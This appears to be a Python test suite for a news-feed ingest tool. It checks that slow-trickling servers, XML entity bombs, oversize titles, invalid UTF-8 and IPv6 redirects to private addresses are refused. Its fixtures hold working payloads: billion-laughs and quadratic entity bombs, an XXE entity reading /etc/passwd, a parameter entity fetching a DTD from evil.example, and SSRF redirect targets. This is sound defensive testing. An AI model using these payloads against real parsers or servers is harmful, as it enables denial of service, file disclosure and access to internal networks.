"""Hostile input: each payload is refused with one clear line, or ends within its time limit.

Slowloris servers (a body or headers trickled a byte at a time, silence, a redirect to them, a
pooled connection that turns slow), XML entity bombs and their kin, huge titles, bytes that are
not UTF-8, and redirects to IPv6 literals that reach loopback, private or link-local addresses.
"""

from __future__ import annotations

import contextlib
import os
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from pathlib import Path
from types import TracebackType
from typing import Self

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from geo.extract.mentions import Extractor
from geo.ingest.articles import (
    MAX_TEXT_BYTES,
    MAX_TITLE_CHARS,
    ArticleError,
    article_from_bytes,
    article_from_text,
    read_article,
)
from geo.ingest.feeds import FeedError, parse_feed
from geo.ingest.fetch import ALLOW_PRIVATE_ENV, AddressPolicy, Fetcher, FetchError, ip_literal
from geo.ingest.pipeline import ingest_upload
from geo.model import Alias
from geo.store.database import Store
from tests.httpserver import LocalServer

REPO = Path(__file__).resolve().parents[2]
LIMIT = 2.0
"""The overall limit of a fetch in these tests, in seconds."""
SLACK = 1.0
"""What the issue allows past the limit: the fetch ends within LIMIT ± 1 s."""
DRIP = 0.2
"""Seconds between two bytes of a trickling server: far below any per-read timeout."""
BODY = (
    "The Rafah crossing reopened on Friday, officials said, as talks on the Philadelphi "
    "Corridor resumed in Cairo."
)
OVER_TIME = f"took longer than {LIMIT:g} s, the time limit for one fetch"
ENTITIES = "entity declarations can blow a small feed up to gigabytes or read files"


# --- a trickling server -------------------------------------------------------------------------


class TrickleServer:
    """A raw-socket HTTP server on 127.0.0.1 that answers as slowly as an attacker would.

    ``/ok``        a small page at once, keeping the connection open for the next request
    ``/body``      headers at once (Content-Length: 100000), then one body byte every DRIP s
    ``/headers``   the status line, then one more header line every DRIP s, never ending
    ``/silent``    nothing at all, the connection held open (so is anything else, a TLS hello)
    ``/redirect``  a redirect to ``/body``
    """

    def __init__(self) -> None:
        self._listener = socket.create_server(("127.0.0.1", 0))
        self._stop = threading.Event()
        self._thread = threading.Thread(target=self._serve, daemon=True)

    def url(self, path: str) -> str:
        """The full URL of a path on this server."""
        return f"http://127.0.0.1:{self._listener.getsockname()[1]}{path}"

    def __enter__(self) -> Self:
        self._thread.start()
        return self

    def __exit__(
        self,
        exc_type: type[BaseException] | None,
        exc: BaseException | None,
        traceback: TracebackType | None,
    ) -> None:
        self._stop.set()
        with contextlib.suppress(OSError):
            self._listener.shutdown(socket.SHUT_RDWR)  # wakes the accept() waiting in _serve
        self._listener.close()
        self._thread.join(timeout=5)

    def _serve(self) -> None:
        while not self._stop.is_set():
            try:
                conn, _ = self._listener.accept()
            except OSError:
                return
            threading.Thread(target=self._answer, args=(conn,), daemon=True).start()

    def _answer(self, conn: socket.socket) -> None:
        with conn, contextlib.suppress(OSError):  # the client hung up: the point of the test
            reader = conn.makefile("rb")
            while not self._stop.is_set():
                request = reader.readline()
                while reader.readline() not in {b"\r\n", b"\n", b""}:
                    pass  # the request's headers
                if not request:
                    return
                words = request.split()  # a TLS ClientHello has none: it is left unanswered
                path = words[1].decode("latin-1") if len(words) > 1 else "/silent"
                if path == "/ok":
                    page = b"<html><body><p>On time.</p></body></html>"
                    conn.sendall(
                        b"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\n"
                        b"Content-Length: %d\r\n\r\n%s" % (len(page), page)
                    )
                    continue
                if path == "/redirect":
                    conn.sendall(
                        b"HTTP/1.1 302 Found\r\nLocation: /body\r\nContent-Length: 0\r\n\r\n"
                    )
                    continue
                if path == "/body":
                    conn.sendall(
                        b"HTTP/1.1 200 OK\r\nContent-Type: text/plain\r\n"
                        b"Content-Length: 100000\r\n\r\n"
                    )
                    self._drip(conn, b"a")
                elif path == "/headers":
                    conn.sendall(b"HTTP/1.1 200 OK\r\n")
                    self._drip(conn, b"X-Slow: 1\r\n")
                else:  # /silent
                    self._stop.wait()
                return

    def _drip(self, conn: socket.socket, piece: bytes) -> None:
        """Send ``piece`` every DRIP seconds until the client hangs up or the server stops."""
        while not self._stop.wait(DRIP):
            conn.sendall(piece)


@pytest.fixture
def store(tmp_path: Path) -> Iterator[Store]:
    with Store(f"sqlite:///{tmp_path / 'store.db'}") as opened:
        yield opened


@pytest.fixture(scope="module")
def extractor() -> Extractor:
    """One place, one name: enough to store an article."""
    return Extractor(
        [Alias("rafah-crossing", "en", "Rafah crossing")], {"rafah-crossing": "crossing"}
    )


@pytest.fixture(scope="module")
def trickle() -> Iterator[TrickleServer]:
    with TrickleServer() as running:
        yield running


def timed_failure(fetcher: Fetcher, url: str) -> tuple[FetchError, float]:
    """Fetch ``url``, expecting a FetchError; return it and the seconds the fetch took."""
    started = time.monotonic()
    with pytest.raises(FetchError) as caught:
        fetcher.get(url)
    return caught.value, time.monotonic() - started


# --- slowloris: the fetch ends within its limit -------------------------------------------------


@pytest.mark.parametrize(
    ("scheme", "path"),
    [
        ("http", "/body"),
        ("http", "/headers"),
        ("http", "/silent"),
        ("http", "/redirect"),
        ("https", "/silent"),  # a TLS handshake never answered
    ],
)
def test_a_trickling_server_is_cut_off_at_the_limit(
    trickle: TrickleServer, scheme: str, path: str
) -> None:
    """The read timeout (10 s) never fires, as bytes keep coming: only the budget stops it."""
    url = trickle.url(path).replace("http:", f"{scheme}:", 1)
    with Fetcher(timeout=10, max_seconds=LIMIT, allow_private=True) as fetcher:
        error, elapsed = timed_failure(fetcher, url)
    assert str(error) == f"{url}: {OVER_TIME}"
    assert elapsed <= LIMIT + SLACK


def test_a_pooled_connection_that_turns_slow_is_cut_off_too(trickle: TrickleServer) -> None:
    with Fetcher(timeout=10, max_seconds=LIMIT, allow_private=True) as fetcher:
        assert b"On time" in fetcher.get(trickle.url("/ok")).body  # leaves a kept-alive socket
        error, elapsed = timed_failure(fetcher, trickle.url("/body"))
        assert error.problem == OVER_TIME
        assert elapsed <= LIMIT + SLACK
        assert b"On time" in fetcher.get(trickle.url("/ok")).body  # the fetcher still works


def test_a_resolver_that_never_answers_is_given_up_at_the_limit() -> None:
    answered = threading.Event()

    def resolve(host: str, port: int) -> list[str]:
        answered.wait(30)
        return ["93.184.216.34"]

    try:
        with Fetcher(timeout=10, max_seconds=LIMIT, resolve=resolve) as fetcher:
            error, elapsed = timed_failure(fetcher, "http://slow-dns.test/")
    finally:
        answered.set()
    assert error.problem == OVER_TIME
    assert elapsed <= LIMIT + SLACK


@pytest.mark.parametrize("max_seconds", [0, -1, float("inf"), float("nan")])
def test_a_fetch_needs_a_finite_limit(max_seconds: float) -> None:
    with pytest.raises(ValueError, match=f"max_seconds={max_seconds!r}"):
        Fetcher(max_seconds=max_seconds)


# --- XML entities: refused before any expansion -------------------------------------------------


def rss_with(doctype: str, title: str) -> bytes:
    """An RSS feed with a DOCTYPE and one entry titled ``title``."""
    return (
        f'<?xml version="1.0"?>\n{doctype}\n<rss version="2.0"><channel><title>Wire</title>'
        f"<item><title>{title}</title><link>https://wire.example/a</link>"
        f"<description>{title}</description></item></channel></rss>"
    ).encode()


LAUGHS = "\n".join(
    ['<!ENTITY lol0 "lollollollol">']
    + [f'<!ENTITY lol{n} "{f"&lol{n - 1};" * 10}">' for n in range(1, 10)]
)
"""Nine levels of ten: a few hundred bytes that would expand to gigabytes."""


@pytest.mark.parametrize(
    ("feed", "problem"),
    [
        (
            rss_with(f"<!DOCTYPE rss [\n{LAUGHS}\n]>", "&lol9;"),
            f"refused: the feed declares the XML entity 'lol0'; {ENTITIES}",
        ),
        (  # a comment holding "<x" hid the declarations from feedparser's own clean-up
            rss_with(f"<!DOCTYPE rss [\n<!-- <x -->\n{LAUGHS}\n]>", "&lol5;"),
            f"refused: the feed declares the XML entity 'lol0'; {ENTITIES}",
        ),
        (  # quadratic blowup: one long entity, used many times
            rss_with(f'<!DOCTYPE rss [<!ENTITY big "{"A" * 50_000}">]>', "&big;" * 2_000),
            f"refused: the feed declares the XML entity 'big'; {ENTITIES}",
        ),
        (  # external entity (XXE)
            rss_with('<!DOCTYPE rss [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>', "&xxe;"),
            f"refused: the feed declares the XML entity 'xxe'; {ENTITIES}",
        ),
        (  # external parameter entity
            rss_with(
                '<!DOCTYPE rss [<!ENTITY % dtd SYSTEM "http://evil.example/x.dtd"> %dtd;]>', "x"
            ),
            f"refused: the feed declares the XML entity 'dtd'; {ENTITIES}",
        ),
        (  # not well-formed: defusedxml stops early, feedparser's lenient parsers would go on
            b'junk<!DOCTYPE rss [<!ENTITY a "b">]><rss><channel><item><title>&a;',
            f"refused: the feed declares XML entities; {ENTITIES}",
        ),
        (
            f'<?xml version="1.0" encoding="utf-16"?><!DOCTYPE rss [{LAUGHS}]>'
            "<rss><item><title>&lol9;".encode("utf-16"),
            f"refused: the feed declares the XML entity 'lol0'; {ENTITIES}",
        ),
        (  # broken, and in UTF-16: the declaration is still found
            f"junk<!DOCTYPE rss [{LAUGHS}]><rss><item><title>&lol9;".encode("utf-16"),
            f"refused: the feed declares XML entities; {ENTITIES}",
        ),
    ],
    ids=[
        "billion-laughs",
        "hidden-laughs",
        "quadratic",
        "xxe",
        "parameter",
        "broken",
        "utf16",
        "broken-utf16",
    ],
)
def test_entity_declarations_are_refused(feed: bytes, problem: str) -> None:
    with pytest.raises(FeedError) as caught:
        parse_feed(feed)
    assert str(caught.value) == problem


def test_an_external_dtd_alone_is_read_and_never_fetched() -> None:
    """RSS 0.91's Netscape DOCTYPE names an external DTD: harmless, as nothing fetches it."""
    doctype = (
        '<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" '
        '"http://my.netscape.com/publish/formats/rss-0.91.dtd">'
    )
    (entry,) = parse_feed(rss_with(doctype, "Crossing &amp; corridor &#233;")).entries
    assert entry.title == "Crossing & corridor é"


def test_an_entity_bomb_feed_upload_fails_alone_and_stores_nothing(
    store: Store, extractor: Extractor
) -> None:
    feed = rss_with(f"<!DOCTYPE rss [\n<!-- <x -->\n{LAUGHS}\n]>", "&lol5;")
    (record,) = ingest_upload(store, extractor, "bomb.xml", feed).records
    assert (record.status, record.problem) == (
        "failed",
        f"refused: the feed declares the XML entity 'lol0'; {ENTITIES}",
    )
    assert store.count_articles() == 0


def test_entities_in_an_html_page_are_not_expanded() -> None:
    page = (
        f'<?xml version="1.0"?>\n<!DOCTYPE html [\n{LAUGHS}\n]>\n<html><head><title>&lol9;'
        f"</title></head><body><p>{BODY} &lol9;</p></body></html>"
    ).encode()
    article = article_from_bytes(page, "page.html", html=True)
    assert len(article.text) < 2 * len(BODY) and len(article.title) < 100


# --- caps on titles and texts -------------------------------------------------------------------


@pytest.mark.parametrize("size", [1, MAX_TITLE_CHARS])
def test_a_title_up_to_the_cap_is_kept(size: int) -> None:
    assert article_from_text(BODY, title="T" * size).title == "T" * size


@pytest.mark.parametrize("size", [MAX_TITLE_CHARS + 1, 1_000_000])
def test_a_title_over_the_cap_is_refused_in_one_short_line(size: int) -> None:
    with pytest.raises(ArticleError) as caught:
        article_from_text(BODY, title="T" * size)
    message = str(caught.value)
    assert f"title is {size:,} characters, over the 1,000-character limit" in message
    assert len(message) < 300 and "\n" not in message


def test_a_text_over_the_cap_is_refused_naming_the_cap() -> None:
    with pytest.raises(ArticleError, match=f"over the {MAX_TEXT_BYTES:,}-byte limit"):
        article_from_text("word " * (MAX_TEXT_BYTES // 5 + 1), title="Long")


def test_a_feed_entry_with_a_huge_title_fails_alone(store: Store, extractor: Extractor) -> None:
    feed = (
        '<rss version="2.0"><channel><title>Wire</title>'
        f"<item><title>{'T' * 100_000}</title><description>{BODY}</description></item>"
        f"<item><title>Fine</title><description>{BODY} Again.</description></item>"
        "</channel></rss>"
    ).encode()
    huge, fine = ingest_upload(store, extractor, "wire.xml", feed).records
    assert (huge.status, fine.status) == ("failed", "stored")
    assert (huge.problem or "").startswith(
        "title is 100,000 characters, over the 1,000-character limit"
    )
    assert store.count_articles() == 1


# --- bytes that are not UTF-8 -------------------------------------------------------------------


@pytest.mark.parametrize("suffix", [".txt", ".md", ".html"])
def test_invalid_utf8_in_a_file_names_the_file_and_the_offset(tmp_path: Path, suffix: str) -> None:
    data = f"<p>{BODY}</p>".encode() + b" Caf\xe9.\n"
    path = tmp_path / f"story{suffix}"
    path.write_bytes(data)
    with pytest.raises(ArticleError) as caught:
        read_article(path)
    offset = data.index(b"\xe9")
    assert str(caught.value) == (
        f"{str(path)!r}: not UTF-8, and no charset is declared: "
        f"invalid byte b'\\xe9' at offset {offset}"
    )


@pytest.mark.parametrize(
    ("charset", "html", "problem"),
    [
        ("utf-8", False, "not UTF-8 as declared: invalid byte b'\\xff' at offset 4"),
        ("UTF8", False, "not UTF-8 as declared: invalid byte b'\\xff' at offset 4"),
        ("no-such-charset", False, "unknown charset 'no-such-charset', and not UTF-8"),
        ("rot13", False, "unknown charset 'rot13', and not UTF-8"),
        ("ascii", False, "not 'ascii' as declared, nor UTF-8: invalid byte b'\\xff' at offset 4"),
        ("utf-8", True, "not UTF-8 as declared: invalid byte b'\\xff' at offset 4"),
    ],
)
def test_bytes_that_do_not_decode_as_declared_are_refused(
    charset: str, html: bool, problem: str
) -> None:
    data = b"Gaza\xff " + BODY.encode()
    with pytest.raises(ArticleError) as caught:
        article_from_bytes(data, "https://wire.example/a", html=html, charset=charset)
    assert caught.value.problem.startswith(problem)


def test_a_declared_charset_decodes_a_page() -> None:
    text = "Le passage de Rafah a rouvert vendredi, ont déclaré les responsables."
    data = text.encode("cp1252")
    assert article_from_bytes(data, "page", html=False, charset="windows-1252").text == text


@settings(deadline=None, max_examples=50)
@given(
    before=st.text(st.characters(codec="utf-8", exclude_categories=("Cc", "Cs")), max_size=40),
    bad=st.sampled_from([b"\xff", b"\xc0", b"\x80", b"\xed\xa0\x80", b"\xf8"]),
)
def test_the_first_bad_byte_is_named_wherever_it_is(before: str, bad: bytes) -> None:
    head = f"{BODY} {before}".encode()
    with pytest.raises(ArticleError) as caught:
        article_from_bytes(head + bad + b" end", "story.txt", html=False)
    assert caught.value.problem.endswith(f"invalid byte {bad[:1]!r} at offset {len(head)}")


def test_cli_refuses_hostile_files_one_line_each_and_stores_nothing(tmp_path: Path) -> None:
    """``python -m geo ingest`` exits non-zero, one stderr line per item, nothing stored."""
    (tmp_path / "latin1.txt").write_bytes(BODY.encode() + b" Caf\xe9.")
    (tmp_path / "bomb.xml").write_bytes(rss_with(f"<!DOCTYPE rss [\n{LAUGHS}\n]>", "&lol9;"))
    (tmp_path / "dump.jsonl").write_text(f'{{"title": "{"T" * 5000}", "text": "{BODY}"}}\n')
    env = {**os.environ, "GEO_DB_URL": f"sqlite:///{tmp_path / 'cli.db'}"}
    done = subprocess.run(
        [sys.executable, "-m", "geo", "ingest", str(tmp_path)],
        cwd=REPO,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
    )
    assert done.returncode == 1, done.stderr
    offset = len(BODY.encode()) + 4
    assert done.stderr.strip().splitlines() == [
        f"error: {tmp_path}/bomb.xml: refused: the feed declares the XML entity 'lol0'; {ENTITIES}",
        f"error: {tmp_path}/dump.jsonl:1: title is 5,000 characters, over the 1,000-character "
        f"limit (it starts {'T' * 40 + '…'!r})",
        f"error: {tmp_path}/latin1.txt: not UTF-8, and no charset is declared: "
        f"invalid byte b'\\xe9' at offset {offset}",
    ]
    assert done.stdout.strip() == "0 stored, 0 new versions, 0 duplicates, 3 failed"


# --- redirects to IPv6 literals -----------------------------------------------------------------


@pytest.fixture(scope="module")
def server() -> Iterator[LocalServer]:
    with LocalServer() as running:
        running.add("/page", f"<html><body><p>{BODY}</p></body></html>")
        yield running


@pytest.mark.parametrize(
    ("host", "refusal"),
    [
        ("[::1]", "loopback address ::1"),
        ("[0:0:0:0:0:0:0:1]", "loopback address ::1"),
        ("[::ffff:127.0.0.1]", "loopback address ::ffff:7f00:1 (127.0.0.1)"),
        ("[::ffff:10.0.0.1]", "private address ::ffff:a00:1 (10.0.0.1)"),
        ("[fe80::1]", "link-local address fe80::1"),
        ("[fe80::1%25eth0]", "link-local address fe80::1%eth0"),
        ("[fd00::1]", "private address fd00::1"),
        ("[::]", "unspecified address ::"),
    ],
)
def test_a_redirect_to_a_non_public_ipv6_literal_is_refused_like_ipv4(
    server: LocalServer, monkeypatch: pytest.MonkeyPatch, host: str, refusal: str
) -> None:
    monkeypatch.delenv(ALLOW_PRIVATE_ENV, raising=False)
    target = f"http://{host}:{server.port}/page"
    start = server.redirect(f"/to-v6-{abs(hash(host))}", target)
    with Fetcher(timeout=1, trusted_networks=["127.0.0.1/32"]) as fetcher:
        error, _ = timed_failure(fetcher, start)
    assert error.problem == f"refused: redirect to {target!r} resolves to {refusal}"
    assert server.count("/page") == 0


def test_the_same_words_as_for_a_private_ipv4_address(server: LocalServer) -> None:
    start = server.url("/to-private")
    with Fetcher(timeout=1, trusted_networks=["127.0.0.1/32"]) as fetcher:
        error, _ = timed_failure(fetcher, start)
    assert error.problem == (
        "refused: redirect to 'http://10.0.0.1/internal' resolves to private address 10.0.0.1"
    )


def test_a_redirect_to_a_malformed_ipv6_literal_is_one_clear_error(server: LocalServer) -> None:
    start = server.redirect("/to-bad-v6", "http://[fe80::1%%zz]/page")
    with Fetcher(timeout=1, trusted_networks=["127.0.0.1/32"]) as fetcher:
        error, _ = timed_failure(fetcher, start)
    assert error.problem.startswith("redirect to an invalid URL: ")


def no_resolver(host: str, port: int) -> list[str]:
    raise AssertionError(f"an IP literal went to the resolver: {host!r}")


@pytest.mark.parametrize(
    ("host", "address"),
    [
        ("[2606:4700:4700::1111]", "2606:4700:4700::1111"),
        ("2606:4700:4700::1111", "2606:4700:4700::1111"),
        ("[::ffff:8.8.8.8]", "::ffff:808:808"),
        ("93.184.216.34", "93.184.216.34"),
    ],
)
def test_a_public_ip_literal_passes_the_check_without_a_resolver(host: str, address: str) -> None:
    assert AddressPolicy(resolve=no_resolver).addresses(host, 80) == [address]


@pytest.mark.parametrize(
    ("host", "literal"),
    [
        ("[::1]", "::1"),
        ("::1", "::1"),
        ("[fe80::1%25eth0]", "fe80::1%eth0"),
        ("127.0.0.1", "127.0.0.1"),
        ("news.example", None),
        ("[news.example]", None),
        ("[::1", None),
        ("", None),
    ],
)
def test_ip_literal(host: str, literal: str | None) -> None:
    found = ip_literal(host)
    assert (str(found) if found else None) == literal
